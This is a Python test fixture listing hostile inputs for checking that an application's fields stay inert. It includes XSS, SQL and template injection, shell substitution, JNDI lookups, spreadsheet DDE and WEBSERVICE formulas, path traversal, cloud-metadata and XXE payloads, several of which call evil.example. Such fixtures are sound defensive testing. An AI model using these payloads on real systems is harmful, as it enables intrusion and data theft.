"""Texts that try to do harm, or only look odd: every field takes them and stays inert.

CORPUS is data, by name. PLAIN are texts that people really write and that must come
through letter by letter; SHORT fit into a name or a heading.
"""

from __future__ import annotations

LONGEST = 20_000

SCRIPTS = {
    "script": "<script>alert(1)</script>",
    "script in a name": 'Ministry"><script src=//evil.example/x.js></script>',
    "script, upper case": "<SCRIPT>alert(1)</SCRIPT >",
    "script after a slash": "<script/x>alert(1)</script>",
    "script in two": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script that never ends": "<script src=https://evil.example/x.js",
    "end of a script": "</script><script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "image, quoted": "<img src='https://evil.example/p.gif' onerror='alert(1)'>",
    "image without an end": "<img src=x onerror=alert(1)//",
    "broken image": '<img """><script>alert(1)</script>">',
    "handler in a quoted value": '" autofocus onfocus="alert(1)" x="',
    "handler in a single-quoted value": "' onmouseover='alert(1)' x='",
    "body": "<body onload=alert(1)>",
    "input": "<input autofocus onfocus=alert(1)>",
    "details": "<details open ontoggle=alert(1)>",
    "video": "<video><source onerror=alert(1)></video>",
    "marquee": "<marquee onstart=alert(1)>",
    "frame": "<iframe src='javascript:alert(1)'></iframe>",
    "frame with a document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data='javascript:alert(1)'></object>",
    "embed": "<embed src='https://evil.example/x.swf'>",
    "base": "<base href='https://evil.example/'>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "form": "<form action='https://evil.example/'><button>Sign in</button></form>",
    "button of a form": "<button formaction=javascript:alert(1)>x</button>",
    "textarea": "</textarea><script>alert(1)</script>",
    "title": "</title><script>alert(1)</script>",
    "comment": "<!--><script>alert(1)</script>-->",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "end of CDATA": "]]><script>alert(1)</script>",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numeric entities": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "full-width brackets": "＜script＞alert(1)＜/script＞",
    "polyglot": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror=alert(1) )//"
    "%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert(1)//>",
}

MUTATIONS = {
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "style in math": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "form in a form": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src onerror=alert(1)>",
    "template": "<template><script>alert(1)</script></template>",
    "select": "<select><style></select><img src=x onerror=alert(1)></style>",
    "svg and p": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "backtick": "<img alt=`><script>alert(1)</script>`>",
    "xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "listing": "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
}

PICTURES = {
    "svg": "<svg onload=alert(1)>",
    "svg script": "<svg><script>alert&#40;1&#41;</script></svg>",
    "svg animation": "<svg><a><animate attributeName=href values=javascript:alert(1) />"
    "<text>x</text></a></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x>#x'/></svg>",
    "svg foreign object": "<svg><foreignObject><iframe onload=alert(1)></svg>",
    "svg image": "<svg><image xlink:href='https://evil.example/x.svg'/></svg>",
    "math": "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "math action": "<math><maction actiontype='statusline#https://evil.example/'>x"
    "</maction></math>",
}

LINKS = {
    "link to a script": "[x](javascript:alert(1))",
    "link to a script, mixed case": "[x](jAvAsCrIpT:alert(1))",
    "link to a script, entity": "[x](&#106;avascript:alert(1))",
    "link to a script, tab": "[x](java\tscript:alert(1))",
    "link to a script, line": "[x](java\nscript:alert(1))",
    "link to a script, control": "[x](\x01javascript:alert(1))",
    "link to a script, brackets": "[x](<javascript:alert(1)>)",
    "link to a script, escape": "[x](javascript\\:alert(1))",
    "link to a script, percent": "[x](javascript%3Aalert(1))",
    "link to a script, comment": "[x](javascript://au.int/%0Aalert(1))",
    "link to vbscript": "[x](vbscript:msgbox(1))",
    "link to data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link to a file": "[x](file:///etc/passwd)",
    "link without a scheme": "[x](//evil.example/)",
    "link with backslashes": "[x](\\\\evil.example\\x)",
    "link with slash and backslash": "[x](/\\evil.example)",
    "link that closes its attribute": '[x](https://au.int/"onmouseover="alert(1))',
    "link with a title": '[x](https://au.int/ "\\" onmouseover=\\"alert(1)")',
    "link around a tag": "[<img src=x onerror=alert(1)>](https://au.int/)",
    "automatic link": "<javascript:alert(1)>",
    "reference": "[x]\n\n[x]: javascript:alert(1)",
    "picture": "![x](https://evil.example/p.gif)",
    "cloud metadata": "![x](http://169.254.169.254/latest/meta-data/)",
    "HTML link": "<a href='javascript:alert(1)'>x</a>",
    "HTML link, entities": "<a href='&#x6A&#x61vascript&colon;alert(1)'>x</a>",
    "HTML link, target": "<a href='https://evil.example/' target=_blank>x</a>",
}

ATTRIBUTES = {
    "hx-get": "<div hx-get='https://evil.example/' hx-trigger=load>x</div>",
    "hx-on": "<p hx-on:load='alert(1)'>x</p>",
    "hx-vals": "<p hx-vals='js:{x: alert(1)}' hx-post=/x hx-trigger=load>x</p>",
    "data-hx": "<p data-hx-get='https://evil.example/' data-hx-trigger='load'>x</p>",
    "data attributes": "<textarea data-markdown data-labels='{}'></textarea>",
    "names of the document": "<a id=body name=cookie>x</a><form id=location></form>",
    "hidden": "<p hidden>not seen</p>",
}

STYLES = {
    "style": "<style>*{display:none}</style>",
    "style import": "<style>@import 'https://evil.example/x.css';</style>",
    "style attribute": "<p style='position:fixed;inset:0;background:url(//evil.example)'>",
    "stylesheet": "<link rel=stylesheet href='https://evil.example/x.css'>",
    "style expression": "<p style='width:expression(alert(1))'>",
    "end of a style": "</style><script>alert(1)</script>",
    "style value": "red;background:url(https://evil.example/x)",
}

TEMPLATES = {
    "template value": "{{ 7|add:7 }} {{ settings.SECRET_KEY }}",
    "template tag": "{% load static %}{% include '/etc/passwd' %}{% debug %}",
    "template comment": "{# hidden #}",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> [[7*7]]",
    "SQL": "'; DROP TABLE governance_user; --",
    "SQL, always true": "' OR '1'='1",
    "SQL, wildcards": "%_\\%",
    "format strings": "%s %n %(x)s %d {0} {x.__class__} {0.__globals__}",
    "shell": "$(id) `id` ; id | id && id",
    "log line": "Signed in\n2021-12-08 INFO chair signed off",
    "lookup": "${jndi:ldap://evil.example/x}",
    "JSON": '{"__proto__": {"x": 1}, "$ne": null}',
    "LDAP and XPath": "*)(uid=*))(|(uid=* ' or ''='",
}

FORMULAS = {
    "formula": "=1+1",
    "formula, link": '=HYPERLINK("https://evil.example/","Click")',
    "formula, plus": "+1",
    "formula, minus": "-1",
    "formula, at": "@SUM(1+1)",
    "formula after a tab": "\t=1+1",
    "formula after a return": "\r=1+1",
    "formula after a line": "\n=1+1",
    "formula, DDE": "=cmd|'/c calc'!A1",
    "formula, DDE with at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula in a cell": 'x","=1+1',
    "formula, web": '=WEBSERVICE("https://evil.example/"&A1)',
    "formula, full-width": "＝1+1",
    "formula after an apostrophe": "'=1+1",
    "formula, pipe": "|calc",
    "separator line": "sep=;",
    "number as text": "0012",
    "long number": "12345678901234567890",
    "exponent": "1E5",
    "date of a spreadsheet": "MARCH1",
    "escape of a spreadsheet": "_x000D_ _x0041_",
}

UNSEEN = {
    "right-to-left override": "invoice\u202egnp.exe",
    "all embeddings and overrides": "a\u202ab\u202bc\u202cd\u202de\u202ef",
    "isolates": "a\u2066b\u2067c\u2068d\u2069e",
    "open isolate": "\u2067shall not",
    "marks of direction": "a\u200eb\u200fc\u061cd",
    "zero width": "sh\u200ball\u2060 n\ufeffot",
    "joiners in a Latin word": "mem\u200dber\u200c",
    "soft hyphen": "mi\u00adgration",
    "invisible operators": "a\u2062b\u2063c\u2064d",
    "tags": "shall" + "".join(chr(0xE0000 + ord(c)) for c in " not"),
    "variation selectors": "a\ufe00b\ufe0fc\U000e0100d",
    "filler of Hangul": "\u3164\u115f\u1160\uffa0",
    "Mongolian separator": "a\u180eb",
    "annotation": "a\ufff9b\ufffac\ufffbd",
    "look-alikes": "Μіnіѕtrу оf Ноmе",  # Greek and Cyrillic letters
    "controls": "".join(map(chr, range(1, 32))) + "\x7f\x80\x9f",
    "NUL": "a\x00b",
    "lone surrogates": "a\ud800b\udc00c\udfff",
    "no characters": "a\ufffeb\uffffc\ufdd0d",
    "private use": "a\ue000b\U000f0000c",
    "replacement": "a\ufffdb",
    "line ends": "a\rb\r\nc\vd\fe\x85f\u2028g\u2029h\n",
    "spaces": "a\u00a0b\u2009c\u202fd\u3000e\u2003f",
    "only spaces": " \t\u00a0\u3000\n ",
    "not composed": "Ts\u030celiso, e\u0301, \u212b, \u2126, ﬁ",
    "marks without a letter": "\u0301\u0302",
    "marks in disorder": "q\u0307\u0323 and q\u0323\u0307",
    "marks piled up": "Z" + "\u0316\u0301" * 500,
}

PLAIN = {
    "Lesotho names": "'M'e 'Mamakopoi le Ntate Ts'eliso, Tšepo",
    "Lesotho names, typographic": "’M’e ’Mamakopoi le Ntate Ts’eliso",
    "Sesotho": "Komiti ea Naha ea Lipuisano ka Bofalli",
    "Arabic": "اللجنة الوطنية المعنية بالهجرة ١٢٣",
    "Persian with a joiner": "می\u200cخواهم",
    "Hebrew and digits": "סעיף 12 (א)",
    "Arabic and English": "The اللجنة of 12 members (IOM) العضو.",
    "Amharic": "የስደት ብሔራዊ ኮሚቴ።",
    "Hindi with a joiner": "क्\u200dष क्\u200cष",
    "Chinese": "移民问题国家协商委员会",
    "emoji": "👩\u200d👩\u200d👧\u200d👦 👍🏽 🇱🇸 ❤\ufe0f\u200d🔥",
    "mathematics": "a < b && c > d, 5 * 3 * 2, x_1_2, 50 % & 3° ± ½",
    "quotation": "He said: “the ‘clause’ — as it stands…”",
    "beyond the first plane": "𝔐𝔦𝔤𝔯𝔞𝔱𝔦𝔬𝔫 𐎠",
    "code": "`x` ~~~ ``` <- -> => #hash @at http://au.int/?a=1&b=2",
}

FILES = {
    "path": "../../etc/passwd",
    "path, Windows": "..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "path, whole": "/etc/passwd",
    "path, encoded": "..%2f..%2fetc%2fpasswd",
    "path, double-encoded": "%252e%252e%252f",
    "name of a device": "CON",
    "name of a device with an ending": "CON.xlsx",
    "two endings": "report.pdf.exe",
    "hidden file": ".htaccess",
    "only dots": "...",
    "dots and spaces at the end": "report.xlsx. . ",
    "header": '"; filename=x\r\nX: y',
    "header of a mail": "Chair\r\nBcc: everyone@evil.example",
    "name with an override": "report\u202egnp.exe",
    "name with NUL": "report.xlsx\x00.exe",
    "name of 300 letters": "n" * 300 + ".xlsx",
    "alternate stream": "report.xlsx::$DATA",
    "forbidden in Windows": 'a<b>c:d"e/f\\g|h?i*j',
}

MARKUP = {
    "nothing": "",
    "stars": "*" * 2_000,
    "stars and underscores": "*_" * 2_000,
    "open emphasis": "**a" * 2_000,
    "open brackets": "[" * LONGEST,
    "open brackets and one end": "[" * (LONGEST - 4) + "](x)",
    "links never ended": "[x](" * 2_000,
    "links in links": "[a](https://au.int/[" * 500,
    "thousand lists": "- " * 1_000 + "deep",
    "thousand lists by line": "\n".join(" " * n + "- a" for n in range(190)),
    "thousand numbered lists": "1. " * 1_000 + "deep",
    "huge number": "999999999999999999999. x",
    "start of a list": '5" onclick="alert(1). x',
    "escapes": "\\" * 2_001,
    "escaped end": "a\\",
    "headings, quotes, tables": "# a\n> b\n\n|a|b|\n|-|-|\n\n---\n\n~~c~~ ==d==",
    "HTML block": "<div>\n\n**a**\n\n</div>",
    "laughs": '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>&b;',
    "external entity": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
    "entities of XML": "&amp; &lt; &#0; &#x1F; &nbsp; &x;",
    "XML instruction": '<?xml version="1.0"?><?xml-stylesheet href="//evil.example"?>',
    "Word field": '{ INCLUDETEXT "https://evil.example/x" } { DDEAUTO c:\\x }',
    "longest": ("The member shall attend. " * 800)[:LONGEST],
    "longest without a space": "m" * LONGEST,
    "longest of emoji": "👩" * LONGEST,
    "longest of lines": "a\n" * (LONGEST // 2),
    "one too many": "m" * (LONGEST + 1),
}

CORPUS: dict[str, str] = {
    **SCRIPTS,
    **MUTATIONS,
    **PICTURES,
    **LINKS,
    **ATTRIBUTES,
    **STYLES,
    **TEMPLATES,
    **FORMULAS,
    **UNSEEN,
    **PLAIN,
    **FILES,
    **MARKUP,
}

# One line, and short enough for a name or a heading.
SHORT: dict[str, str] = {
    name: text
    for name, text in CORPUS.items()
    if text.strip()
    and len(text) <= 120
    and not any(c < " " or 0xD800 <= ord(c) <= 0xDFFF for c in text)
}
